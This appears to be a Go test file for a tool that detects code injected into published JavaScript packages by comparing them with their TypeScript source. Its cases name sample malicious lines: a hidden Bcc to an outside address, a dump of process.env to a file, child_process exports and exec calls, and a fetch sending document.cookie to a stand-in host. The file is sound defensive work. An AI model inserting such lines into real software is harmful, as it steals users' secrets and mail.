package jsequiv

import (
	"bytes"
	"errors"
	"os"
	"path"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

const fixture = "testdata/mcpserver"

func readFixture(t *testing.T, p string) File {
	t.Helper()
	b, err := os.ReadFile(filepath.FromSlash(p))
	if err != nil {
		t.Fatal(err)
	}
	return File{Path: p, Code: b}
}

// fixtureOptions reads the fixture's tsconfig through TSConfig.
func fixtureOptions(t *testing.T, config string) Options {
	t.Helper()
	opts, _, err := TSConfig(config, func(p string) ([]byte, error) {
		return os.ReadFile(filepath.Join(fixture, filepath.FromSlash(p)))
	})
	if err != nil {
		t.Fatal(err)
	}
	return opts
}

var modes = []struct {
	name, config, dist string
}{
	{"esm-es2022", "tsconfig.json", "dist/esm"},
	{"cjs-es2020", "tsconfig.cjs.json", "dist/cjs"},
	{"cjs-es2020-tslib", "tsconfig.tslib.json", "dist/cjs-tslib"},
}

var modules = []string{"greeting", "index", "log", "mail", "server", "tools", "types"}

// TestHonestOutputHasNoResidue: tsc's honest output of every fixture module,
// ESM and CommonJS, is fully explained by its TypeScript source.
func TestHonestOutputHasNoResidue(t *testing.T) {
	for _, m := range modes {
		opts := fixtureOptions(t, m.config)
		total, totalSrc := 0, 0
		for _, mod := range modules {
			shipped := readFixture(t, path.Join(fixture, m.dist, mod+".js"))
			source := readFixture(t, path.Join(fixture, "src", mod+".ts"))
			res, err := Compare(shipped, source, opts)
			if err != nil {
				t.Fatalf("%s %s: %v", m.name, mod, err)
			}
			total += res.ShippedTokens
			totalSrc += res.SourceTokens
			t.Logf("%s %s.js: shipped %d, source %d, unexplained %d, missing %d", m.name, mod, res.ShippedTokens, res.SourceTokens, res.Unexplained, res.Missing)
			if res.Unexplained != 0 || res.Missing != 0 || len(res.Runs) != 0 {
				t.Errorf("%s %s: unexplained %d missing %d runs %+v", m.name, mod, res.Unexplained, res.Missing, res.Runs)
			}
		}
		t.Logf("%s total: shipped %d, source %d tokens", m.name, total, totalSrc)
	}
}

// TestInjectedCodeStandsAlone: each tampered file yields exactly one run, on
// the injected line, holding only the injected tokens.
func TestInjectedCodeStandsAlone(t *testing.T) {
	tests := []struct {
		name, shipped, source, config string
		line, endLine, tokens         int
		text                          string
	}{
		{"esm object property", "testdata/tampered/esm/mail.js", "mail", "tsconfig.json", 6, 6, 4, "Bcc: 'phan@giftshop.club',"},
		{"cjs object property", "testdata/tampered/cjs/mail.js", "mail", "tsconfig.cjs.json", 10, 10, 4, "Bcc: 'phan@giftshop.club',"},
		{"esm statement", "testdata/tampered/esm/tools.js", "tools", "tsconfig.json", 17, 17, 16, `fs.appendFileSync("/tmp/x", JSON.stringify(process.env));`},
		{"cjs statement", "testdata/tampered/cjs/tools.js", "tools", "tsconfig.cjs.json", 59, 59, 16, `fs.appendFileSync("/tmp/x", JSON.stringify(process.env));`},
		{"cjs extra export", "testdata/tampered/cjs/mail-export.js", "mail", "tsconfig.cjs.json", 5, 5, 9, `exports.shell = require("child_process");`},
		// A helper whose body was changed is not a known tsc emit: the whole
		// helper statement is compared as code and none of it is explained.
		{"cjs code inside a helper", "testdata/tampered/cjs/index.js", "index", "tsconfig.cjs.json", 13, 16, 63, `require("child_process").exec(`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res, err := Compare(readFixture(t, tt.shipped), readFixture(t, path.Join(fixture, "src", tt.source+".ts")), fixtureOptions(t, tt.config))
			if err != nil {
				t.Fatal(err)
			}
			t.Logf("shipped %d, source %d, unexplained %d", res.ShippedTokens, res.SourceTokens, res.Unexplained)
			if len(res.Runs) != 1 {
				t.Fatalf("runs = %+v, want one", res.Runs)
			}
			r := res.Runs[0]
			if r.StartLine != tt.line || r.EndLine != tt.endLine || r.Tokens != tt.tokens || res.Unexplained != tt.tokens {
				t.Errorf("run %d-%d with %d tokens (unexplained %d), want %d-%d with %d", r.StartLine, r.EndLine, r.Tokens, res.Unexplained, tt.line, tt.endLine, tt.tokens)
			}
			if !strings.Contains(r.Text, tt.text) {
				t.Errorf("run text %q does not contain %q", r.Text, tt.text)
			}
		})
	}
}

// TestDecorators: tsc's experimentalDecorators emit (with and without
// emitDecoratorMetadata) is explained; code hidden in a metadata argument
// is not.
func TestDecorators(t *testing.T) {
	const dir = "testdata/decorators"
	read := func(p string) ([]byte, error) { return os.ReadFile(filepath.Join(dir, filepath.FromSlash(p))) }
	src := readFixture(t, dir+"/src/service.ts")
	for _, c := range []struct{ config, shipped string }{
		{"tsconfig.json", dir + "/dist/esm/service.js"},
		{"tsconfig.cjs.json", dir + "/dist/cjs/service.js"},
		{"tsconfig.tslib.json", dir + "/dist/esm-tslib/service.js"},
	} {
		opts, lay, err := TSConfig(c.config, read)
		if err != nil {
			t.Fatal(err)
		}
		res, err := Compare(readFixture(t, c.shipped), src, opts)
		if err != nil {
			t.Fatal(err)
		}
		t.Logf("%s: shipped %d, source %d, unexplained %d (notes %q)", c.shipped, res.ShippedTokens, res.SourceTokens, res.Unexplained, lay.Notes)
		if res.Unexplained != 0 || res.Missing != 0 {
			t.Errorf("%s: %+v", c.shipped, res)
		}
	}
	opts, _, _ := TSConfig("tsconfig.json", read)
	res, err := Compare(readFixture(t, "testdata/tampered/esm/service.js"), src, opts)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Runs) != 1 || res.Runs[0].StartLine != 57 || res.Runs[0].EndLine != 57 || !strings.Contains(res.Runs[0].Text, "child_process") {
		t.Errorf("tampered metadata: %+v", res.Runs)
	}
}

// TestTslibNeedsImportHelpers: helper calls through tslib are only explained
// when the tsconfig says importHelpers.
func TestTslibNeedsImportHelpers(t *testing.T) {
	res, err := Compare(readFixture(t, fixture+"/dist/cjs-tslib/tools.js"), readFixture(t, fixture+"/src/tools.ts"), fixtureOptions(t, "tsconfig.cjs.json"))
	if err != nil {
		t.Fatal(err)
	}
	if res.Unexplained == 0 || !strings.Contains(res.Runs[0].Text, "tslib") {
		t.Errorf("tslib import explained without importHelpers: %+v", res)
	}
}

// TestShippedJSAgainstUpstreamJS is the postmark-mcp shape: upstream is
// plain JavaScript, published verbatim plus one line.
func TestShippedJSAgainstUpstreamJS(t *testing.T) {
	upstream := readFixture(t, fixture+"/dist/esm/mail.js")
	upstream.Path = "index.js"
	res, err := Compare(readFixture(t, "testdata/tampered/esm/mail.js"), upstream, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if res.Unexplained != 4 || len(res.Runs) != 1 || res.Runs[0].StartLine != 6 {
		t.Fatalf("got %+v", res)
	}
	same, err := Compare(upstream, upstream, Options{})
	if err != nil || same.Unexplained != 0 || same.Missing != 0 {
		t.Fatalf("identical files: %+v %v", same, err)
	}
}

// TestMinifiedShippedFile: a one-line shipped file still maps the injected
// tokens to line 1, with the text bounded.
func TestMinifiedShippedFile(t *testing.T) {
	src := []byte("export function f(a){return a+1}\n")
	long := "export function f(a){return a+1}" + strings.Repeat(";var x=1", 500) + ";fetch('https://example.invalid/?'+document.cookie);"
	res, err := Compare(File{Path: "min.js", Code: []byte(long)}, File{Path: "f.js", Code: src}, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Runs) != 1 || res.Runs[0].StartLine != 1 {
		t.Fatalf("runs %+v", res.Runs)
	}
	if len(res.Runs[0].Text) > MaxRunText+len("…") {
		t.Errorf("run text is %d bytes", len(res.Runs[0].Text))
	}
}

func TestSimilarity(t *testing.T) {
	opts := fixtureOptions(t, "tsconfig.json")
	shipped := readFixture(t, fixture+"/dist/esm/tools.js")
	same, err := Similarity(shipped, readFixture(t, fixture+"/src/tools.ts"), opts)
	if err != nil || same != 1 {
		t.Fatalf("own source: %v %v", same, err)
	}
	other, err := Similarity(shipped, readFixture(t, fixture+"/src/server.ts"), opts)
	if err != nil {
		t.Fatal(err)
	}
	if other > 0.6 {
		t.Errorf("unrelated source explains %.2f", other)
	}
	empty, err := Similarity(readFixture(t, fixture+"/dist/esm/types.js"), readFixture(t, fixture+"/src/types.ts"), opts)
	if err != nil || empty != 1 {
		t.Fatalf("type-only module: %v %v", empty, err)
	}
}

func TestHostileInput(t *testing.T) {
	good := File{Path: "a.js", Code: []byte("export const a = 1;\n")}
	pad := func(n int) []byte { // a valid file of exactly n bytes (mostly a comment)
		b := []byte("export const a = 1;\n//")
		return append(b, bytes.Repeat([]byte("x"), n-len(b))...)
	}
	tests := []struct {
		name            string
		shipped, source File
		want            error
		wantSide        string
	}{
		{"syntax garbage shipped", File{Path: "g.js", Code: []byte("function (((( {{ ]]")}, good, ErrSyntax, "shipped"},
		{"syntax garbage source", good, File{Path: "g.ts", Code: []byte("class { = ;")}, ErrSyntax, "source"},
		{"binary NUL", File{Path: "b.js", Code: []byte("var a\x00 = 1")}, good, ErrNotText, "shipped"},
		{"invalid utf-8", good, File{Path: "b.ts", Code: []byte("var a = '\xff\xfe';")}, ErrNotText, "source"},
		{"over MaxFileSize", File{Path: "big.js", Code: pad(MaxFileSize + 1)}, good, ErrTooLarge, "shipped"},
		{"source over MaxFileSize", good, File{Path: "big.ts", Code: pad(MaxFileSize + 1)}, ErrTooLarge, "source"},
		{"exactly MaxFileSize", File{Path: "edge.js", Code: pad(MaxFileSize)}, good, nil, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res, err := Compare(tt.shipped, tt.source, Options{})
			if tt.want == nil {
				if err != nil || res.Unexplained != 0 {
					t.Fatalf("got %+v, %v", res, err)
				}
				return
			}
			if !errors.Is(err, tt.want) {
				t.Fatalf("err = %v, want %v", err, tt.want)
			}
			var e *Error
			if !errors.As(err, &e) || e.Side != tt.wantSide {
				t.Fatalf("err = %#v, want side %s", err, tt.wantSide)
			}
			if _, err := Similarity(tt.shipped, tt.source, Options{}); !errors.Is(err, tt.want) {
				t.Errorf("Similarity err = %v", err)
			}
		})
	}
}

// TestTokenLimitBoundary checks the token cap used by Compare at its edge.
func TestTokenLimitBoundary(t *testing.T) {
	code := []byte("a;a;a;") // 6 tokens
	if toks, _, tooMany := lexJS(code, false, 6); tooMany || len(toks) != 6 {
		t.Errorf("6 tokens with limit 6: tooMany=%v n=%d", tooMany, len(toks))
	}
	if _, _, tooMany := lexJS(code, false, 5); !tooMany {
		t.Error("6 tokens with limit 5: not tooMany")
	}
}

// TestNoPanicOnMutations feeds byte-level mutations of a fixture to Compare.
func TestNoPanicOnMutations(t *testing.T) {
	base := readFixture(t, fixture+"/dist/cjs/index.js")
	src := readFixture(t, fixture+"/src/index.ts")
	opts := fixtureOptions(t, "tsconfig.cjs.json")
	for i := 0; i < len(base.Code); i += 7 {
		for _, c := range []byte{'{', '}', '(', ';', '`', '/', '"', '\n'} {
			m := append([]byte(nil), base.Code...)
			m[i] = c
			res, err := Compare(File{Path: "m.js", Code: m}, src, opts)
			var e *Error
			if err != nil && !errors.As(err, &e) {
				t.Fatalf("untyped error %v", err)
			}
			if err == nil && res == nil {
				t.Fatal("nil result without error")
			}
			if e != nil && errors.Is(err, ErrInternal) {
				t.Fatalf("internal error at byte %d=%q: %v", i, c, err)
			}
		}
	}
}

func FuzzCompare(f *testing.F) {
	f.Add([]byte("export const a = 1;"), []byte("export const a: number = 1;"))
	f.Add([]byte(`"use strict";exports.a=exports.b=void 0;var E;(function(E){E[E["A"]=0]="A"})(E||(exports.E=E={}));`), []byte("export enum E { A }"))
	f.Add([]byte("class A{x;constructor(x){this.x=x}}"), []byte("class A{constructor(private x: number){}}"))
	f.Fuzz(func(t *testing.T, shipped, source []byte) {
		start := time.Now()
		res, err := Compare(File{Path: "s.js", Code: shipped}, File{Path: "u.ts", Code: source}, Options{Target: "es2020"})
		if el := time.Since(start); el > 2*time.Second {
			t.Fatalf("took %v", el)
		}
		if err != nil {
			if errors.Is(err, ErrInternal) {
				t.Fatal(err)
			}
			return
		}
		if res.Unexplained < 0 || res.Unexplained > res.ShippedTokens {
			t.Fatalf("bad counts %+v", res)
		}
	})
}

func TestIsESMAndLoader(t *testing.T) {
	for code, want := range map[string]bool{
		`import x from "y";`:      true,
		`export const a=1;`:       true,
		`const m=import("y");`:    false,
		`const u=import.meta.url`: true,
		`module.exports={}`:       false,
		`a.export=1;a.import(1)`:  false,
	} {
		toks, _, _ := lexJS([]byte(code), false, 100)
		if isESM(toks) != want {
			t.Errorf("isESM(%q) = %v", code, !want)
		}
	}
}

// TestTopLevelAwaitScript: a module without import/export statements is
// first taken for CommonJS; top-level await makes that impossible, and the
// comparison falls back to the module as it is.
func TestTopLevelAwaitScript(t *testing.T) {
	code := []byte("const r = await fetch(\"https://example.invalid\");\nconsole.log(r.status);\n")
	res, err := Compare(File{Path: "a.js", Code: code}, File{Path: "a.ts", Code: code}, Options{})
	if err != nil || res.Unexplained != 0 {
		t.Fatalf("%+v %v", res, err)
	}
}

func TestUnknownTargetIsNoted(t *testing.T) {
	f := File{Path: "a.js", Code: []byte("export const a = 1;")}
	res, err := Compare(f, f, Options{Target: "es2099"})
	if err != nil || len(res.Notes) == 0 || !strings.Contains(res.Notes[0], "es2099") {
		t.Fatalf("%+v %v", res, err)
	}
}

// TestConfigVariants: when the settings given do not match how the package
// was built (wrong target, class-field semantics, unreadable tsconfig), the
// alternatives tried still explain honest output, and injected code stays
// unexplained under every alternative.
func TestConfigVariants(t *testing.T) {
	tests := []struct {
		name, shipped, source string
		opts                  Options
		unexplained           int
	}{
		{"esm built at es2022, told es2020", fixture + "/dist/esm/server.js", "server", Options{Target: "es2020", TSConfigRaw: `{"compilerOptions":{"target":"es2022"}}`}, 0},
		{"esm, told useDefineForClassFields=false", fixture + "/dist/esm/server.js", "server", Options{Target: "es2018", TSConfigRaw: `{"compilerOptions":{"target":"es2022","useDefineForClassFields":false}}`}, 0},
		{"cjs, no tsconfig known", fixture + "/dist/cjs/server.js", "server", Options{}, 0},
		{"cjs, no tsconfig known, injected", "testdata/tampered/cjs/tools.js", "tools", Options{Target: "es2022"}, 16},
		{"esm, wrong settings, injected", "testdata/tampered/esm/mail.js", "mail", Options{Target: "es2018", TSConfigRaw: `{"compilerOptions":{"useDefineForClassFields":false}}`}, 4},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res, err := Compare(readFixture(t, tt.shipped), readFixture(t, fixture+"/src/"+tt.source+".ts"), tt.opts)
			if err != nil {
				t.Fatal(err)
			}
			if res.Unexplained != tt.unexplained {
				t.Errorf("unexplained %d, want %d: %+v", res.Unexplained, tt.unexplained, res)
			}
			t.Logf("notes: %q", res.Notes)
		})
	}
}

func TestVariantsList(t *testing.T) {
	names := func(vs []variant) []string {
		var n []string
		for _, v := range vs {
			n = append(n, v.name)
		}
		return n
	}
	got := names(variants(targets["es2020"], `{"compilerOptions":{"useDefineForClassFields":false}}`))
	want := []string{"useDefineForClassFields=true", "target esnext", "useDefineForClassFields=true, target esnext"}
	if strings.Join(got, "|") != strings.Join(want, "|") {
		t.Errorf("variants = %q, want %q", got, want)
	}
	if got := names(variants(targets["esnext"], "")); len(got) != 2 {
		t.Errorf("esnext, no tsconfig: %q", got)
	}
}
